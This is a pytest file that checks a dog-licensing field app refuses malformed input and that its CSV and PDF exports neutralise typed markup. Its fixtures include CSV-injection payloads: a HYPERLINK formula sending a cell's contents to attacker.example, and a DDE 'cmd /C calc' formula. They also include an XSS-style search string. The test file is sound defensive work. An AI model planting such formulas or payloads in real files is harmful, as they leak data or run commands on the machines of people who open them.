"""Bad input to the sync API is refused with a 4xx and a message a person can act on, and
nothing is written: numbers past what the database holds, lone UTF-16 surrogates, the wrong
JSON type where text is expected, dates out of range, JSON nested thousands deep."""
import pytest

from .support import dog_id, entry, post_json

GOOD_VIOLATION = {"codes": ["6A1"], "ruled_out": ["6B", "6A1-hunting", "6A1-leash", "6A1-accompanied"], "occurred_at": "2026-10-19T09:30",
                  "location_text": "Lake Rd at County Route 15", "dog_description": "brown hound"}


def refused(response, field=None):
    assert 400 <= response.status_code < 500, (response.status_code, response.get_data(as_text=True))
    body = response.get_json()
    messages = body.get("errors") or {"": body.get("message")}
    assert all(isinstance(m, str) and len(m) > 10 for m in messages.values()), body
    if field:
        assert field in messages, messages
    return messages


@pytest.mark.parametrize("field, value", [
    ("dog_id", 9223372036854775808),
    ("dog_id", "99999999999999999999"),
    ("dog_id", -1),
    ("dog_id", True),
    ("narrative", "\ud800"),
    ("dog_description", "\x00"),  # PostgreSQL cannot keep a NUL in text: refused, never a 500
    ("codes", ["6A1\x00"]),
    ("location_text", "Lake Rd \udfff"),
    ("narrative", 5),
    ("narrative", ["a", "b"]),
    ("narrative", {"a": 1}),
    ("narrative", True),
    ("witness", 1e308),
    ("occurred_at", "9999-12-31T23:59:59-12:00"),
    ("occurred_at", "0001-01-01T00:00:00+14:00"),
    ("latitude", float("nan")),
    ("latitude", "Infinity"),
    ("codes", [{"a": 1}]),
    ("codes", "6A1\ud800"),
    ("ruled_out", [["6B"]]),
    ("supersedes_entry_id", 12),
])
def test_a_bad_field_is_a_422_naming_it_and_nothing_is_written(officer, town, field, value):
    client, me, rows = officer
    before = rows()
    payload = {**GOOD_VIOLATION, "dog_id": str(dog_id(town)), field: value}
    refused(post_json(client, "/api/sync", entry(me, "violation", payload)), field)
    assert rows() == before


@pytest.mark.parametrize("over, field", [
    ({"recorded_at": "9999-12-31T23:59:59-12:00"}, "recorded_at"),
    ({"recorded_at": "0001-01-01T00:00:00+01:00"}, "recorded_at"),
    ({"recorded_at": 20261019}, "recorded_at"),
    ({"id": 123}, "id"),
    ({"id": ["a"]}, "id"),
    ({"kind": {"a": 1}}, "kind"),
    ({"kind": "\ud800"}, "kind"),
    ({"payload": ["a"]}, "payload"),
    ({"officer_id": 2**80}, "officer_id"),
])
def test_a_bad_envelope_is_refused(officer, over, field):
    client, me, rows = officer
    before = rows()
    body = {**entry(me, "violation", GOOD_VIOLATION), **over}
    response = post_json(client, "/api/sync", body)
    assert 400 <= response.status_code < 500
    assert rows() == before


def test_json_nested_thousands_deep_is_a_400(officer):
    client, me, rows = officer
    before = rows()
    for body in ('{"payload":' * 5000 + "1" + "}" * 5000, "[" * 100000 + "]" * 100000,
                 '{"id": "x", "payload": ' + '{"a":' * 50 + "1" + "}" * 50 + "}"):
        response = client.post("/api/sync", data=body, content_type="application/json")
        refused(response)
    assert rows() == before


def test_a_valid_entry_still_goes_through(officer, town):
    client, me, rows = officer
    before = rows()
    response = post_json(client, "/api/sync", entry(me, "violation", {**GOOD_VIOLATION, "dog_id": dog_id(town)}))
    assert response.status_code == 201, response.get_json()
    assert rows()["violation"] == before["violation"] + 1


@pytest.mark.parametrize("body, field", [
    ({"device_id": "phone-1", "size": [None]}, "size"),
    ({"device_id": "phone-1", "size": "99999999999999999999"}, "size"),
    ({"device_id": "phone-1", "size": 2**70}, "size"),
    ({"device_id": "phone-1", "size": True}, "size"),
    ({"device_id": "phone-1", "size": -1}, "size"),
    ({"device_id": ["phone-1"]}, "device_id"),
    ({"device_id": 7}, "device_id"),
    ({"device_id": "\ud800"}, "device_id"),
])
def test_ticket_blocks_refuse_bad_sizes_and_devices(officer, body, field):
    client, me, rows = officer
    before = rows()
    refused(post_json(client, "/api/ticket-blocks", body), field)
    assert rows() == before


@pytest.mark.parametrize("reason", [-1, None, "", [], {"a": 1}, True, "\ud800", "x" * 5000])
def test_a_void_with_a_bad_reason_is_refused(officer, reason):
    client, me, rows = officer
    block = post_json(client, "/api/ticket-blocks", {"device_id": "phone-1", "size": 2}).get_json()["block"]
    before = rows()
    refused(post_json(client, f"/api/ticket-numbers/{block['first']}/void", {"reason": reason}))
    assert rows() == before
    void = post_json(client, "/api/sync", entry(me, "ticket_void", {"ticket_number": block["first"],
                                                                     "reason": reason}))
    refused(void)
    assert rows() == before


@pytest.mark.parametrize("number", ["99999999999999999999", "SC-%ED%A0%80", "%00", "SC-" + "9" * 500])
def test_a_void_of_a_strange_number_is_refused(officer, number):
    client, me, rows = officer
    before = rows()
    refused(post_json(client, f"/api/ticket-numbers/{number}/void", {"reason": "spoiled"}))
    assert rows() == before


@pytest.mark.parametrize("since", ["99999999999999999999", "-1", "9223372036854775808"])
def test_the_field_dataset_refuses_a_version_it_never_gave(officer, since):
    client, me, rows = officer
    refused(client.get(f"/api/field-dataset?since={since}"))


def test_a_discarded_entry_with_bad_text_is_refused(officer):
    client, me, rows = officer
    before = rows()
    body = {"id": "6b3c3a53-6e4c-4d0b-9d0a-0a8d3c9a1f00", "kind": "violation",
            "payload": {"narrative": "\ud800"}, "last_error": 2**80}
    refused(post_json(client, "/api/outbox/discarded", body))
    assert rows() == before


# --- exports a spreadsheet opens -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_s5F_license_record_csv_keeps_typed_formulas_as_text(app, client, auth):
    """§5(F) "a record of all licenses issued": the CSV a clerk opens in a spreadsheet shows what
    was typed as text, never a formula it would run (as the DL-18 CSV does)."""
    import csv
    import io

    from fieldapp.extensions import db
    from fieldapp.models import License
    with app.app_context():
        lic = db.session.scalars(db.select(License).order_by(License.issued_on.desc())).first()
        dog, owner = lic.dog, lic.dog.owner_links[0].owner
        dog.name, dog.markings, owner.address, owner.phone = FORMULAS
        db.session.commit()
        day = lic.issued_on.isoformat()
    auth.login("clerk")
    response = client.get(f"/clerk/reports/licenses.csv?from={day}&to={day}")
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
    for typed in FORMULAS:
        assert "'" + typed in cells or any(c.startswith("'" + typed) for c in cells), typed
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_one_csv_writer_for_every_export():
    """Every CSV the app writes goes through fieldapp/csvfile.py (no csv.writer elsewhere)."""
    import pathlib
    root = pathlib.Path(__file__).parents[2] / "fieldapp"
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text()]
    assert writers == ["csvfile.py"]


# --- money and dates typed into the HTML forms ---------------------------------------------------

def form_of(client, url, action=""):
    """The first post form of the page (whose address ends with `action`), as it was rendered:
    (its address, {name: [values]})."""
    from .formwalk import parse
    forms, _ = parse(url, client.get(url).get_data(as_text=True))
    form = next(f for f in forms if not f.action.endswith("/logout") and f.action.split("?")[0].endswith(action))
    return form.action, form.data()


@pytest.mark.parametrize("amount", ["1e30", "1E+30", "NaN", "99999999999", "12.345"])
def test_an_amount_no_record_can_keep_is_refused_at_its_field_and_kept(app, client, auth, amount):
    """Mail-in amount, an enumeration's surcharge and expense, a fee: refused with the field's
    message (never a 500 from `quantize` or the database), what was typed kept."""
    from fieldapp.extensions import db
    from fieldapp.models import Dog, EnumerationResolution
    with app.app_context():
        dog = db.session.scalars(db.select(Dog).order_by(Dog.id)).first().id
        enum = db.session.scalars(db.select(EnumerationResolution)).first()
    auth.login("clerk")
    urls = [(f"/clerk/dogs/{dog}/mail-in/new", "")] + ([(f"/clerk/enumerations/{enum.id}", "/expenses")] if enum else [])
    for url, suffix in urls:
        action, data = form_of(client, url, suffix)
        data.update(amount=[amount], description=["mileage"], paid_by=["the enumerator"])
        response = client.post(action, data=data)
        assert response.status_code == 422, (url, response.status_code)
        assert 'id="amount-error"' in response.get_data(as_text=True) and amount in response.get_data(as_text=True)
    auth.logout()
    auth.login("admin")
    action, data = form_of(client, "/admin/enumerations", "/admin/enumerations")
    data.update(resolution=["R-1"], adopted_on=["2026-01-05"], opens_on=["2026-01-05"], surcharge=[amount])
    response = client.post(action, data=data)
    assert response.status_code == 422 and 'id="surcharge-error"' in response.get_data(as_text=True)


@pytest.mark.parametrize("typed", ["next tuesday", "9999-12-31", "2026-13-45", "1e30", "-1"])
def test_the_no_javascript_ticket_and_seizure_forms_refuse_a_date_that_is_no_date(officer, typed):
    """§9, §8: a return date or a time of seizure that is no date, or one no record keeps, is
    refused (or the page drawn again) with what was typed; never a 500."""
    client, me, rows = officer
    before = rows()
    for url, name in (("/field/tickets/new", "appear_on"), ("/field/seizures/new", "seized_at")):
        action, data = form_of(client, url)
        data[name] = [typed if name == "appear_on" else typed + "T10:00"]
        response = client.post(action, data=data)
        assert response.status_code < 500, (url, typed, response.status_code)
        assert typed in response.get_data(as_text=True), (url, typed)
    assert rows() == before


def test_s5J3_a_new_residents_date_opens_the_fee_preview_and_a_refused_form(app, client, auth):
    """§5(J)(3) "within thirty days after the date residence began": typing the date draws the
    fee preview with the day the license is due, and a refused form keeps it."""
    from datetime import timedelta

    from fieldapp.timeutil import local_today
    began = (local_today() - timedelta(days=10)).isoformat()
    auth.login("clerk")
    action, data = form_of(client, "/clerk/licenses/new")
    data["residence_began_on"] = [began]
    quote = client.post("/clerk/licenses/quote", data=data)
    assert quote.status_code == 200
    refused = client.post(action, data=data)
    assert refused.status_code == 422 and began in refused.get_data(as_text=True)


@pytest.mark.parametrize("where", ["form", "query"])
def test_a_nul_in_a_form_is_refused_before_any_view_and_nothing_is_kept(officer, town, where):
    """PostgreSQL cannot keep a NUL in text (a 500 there); SQLite would keep it, and its backup
    would then not restore into PostgreSQL."""
    client, me, rows = officer
    before = rows()
    action, data = form_of(client, "/field/violations/new")
    data["location_text"] = ["Lake\x00Rd"]
    response = (client.post(action, data=data) if where == "form"
                else client.get("/field/violations/new?dog=1&code=6A1\x00"))
    assert response.status_code == 400 and "NUL" in response.get_data(as_text=True)
    assert rows() == before


def test_a_zip_code_with_markup_prints_in_the_renewal_letters(app, client, auth):
    """The month's renewal letters PDF draws what was typed as text (ReportLab reads markup)."""
    from fieldapp.extensions import db
    from fieldapp.models import Owner
    with app.app_context():
        for owner in db.session.scalars(db.select(Owner)):
            owner.zip_code, owner.state = "<b>131", "N&"
        db.session.commit()
    auth.login("clerk")
    page = client.get("/clerk/renewals/")
    from .formwalk import parse
    forms, _ = parse("/clerk/renewals/", page.get_data(as_text=True))
    letters = next(f for f in forms if f.action.endswith("letters.pdf"))
    response = client.post(letters.action, data=letters.data())
    assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_a_page_when_the_database_goes_away_mid_request_is_a_503(app, client, auth):
    """As in a database restart: the user was loaded, then the next statement fails. The page
    is a 503 (Retry-After) drawn signed out, not a 500 from drawing the signed-in user again."""
    from sqlalchemy import event
    from sqlalchemy.exc import OperationalError

    from fieldapp.extensions import db
    auth.login("clerk")
    state = {"on": False, "user_loaded": False}
    with app.app_context():
        @event.listens_for(db.engine, "before_cursor_execute")
        def restart(conn, cursor, statement, params, context, executemany):
            if state["on"] and state["user_loaded"]:
                raise OperationalError(statement, params, Exception("server closed the connection unexpectedly"))
            if state["on"] and 'FROM user' in statement.replace('"', ""):
                state["user_loaded"] = True
    state["on"] = True
    response = client.get("/")
    state["on"] = False
    assert response.status_code == 503 and response.headers["Retry-After"] == "30"
    assert "tried again by itself" in response.get_data(as_text=True)


SEARCH_IN_A_PROCESS = """
import sys
from fieldapp import create_app
from fieldapp.services.search import search_dogs
from tests.conftest import make_test_config
app = create_app(make_test_config(sys.argv[1]))
with app.app_context():
    for q in sys.argv[2:]:
        search_dogs(q)
print("searched")
"""


def test_a_short_word_before_a_longer_one_searches_without_crashing_sqlite(town):
    """SQLite 3.40's FTS5 trigram index crashed the process (a segmentation fault, every worker
    that took the search) on a word under three letters before a longer one: "jo smith".
    Run in a child process, so a crash fails this test rather than the whole run."""
    import subprocess
    import sys

    # On PostgreSQL the same words go through its trigram index: none may fail there either.
    done = subprocess.run([sys.executable, "-c", SEARCH_IN_A_PROCESS, town.config["SQLALCHEMY_DATABASE_URI"], "jo smith", "x abc", "& abcd",
                           '<b onmouseover="alert(1)">Rex</b> & "Co"', "a b", "max"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "searched" in done.stdout, (done.returncode, done.stderr[-500:])
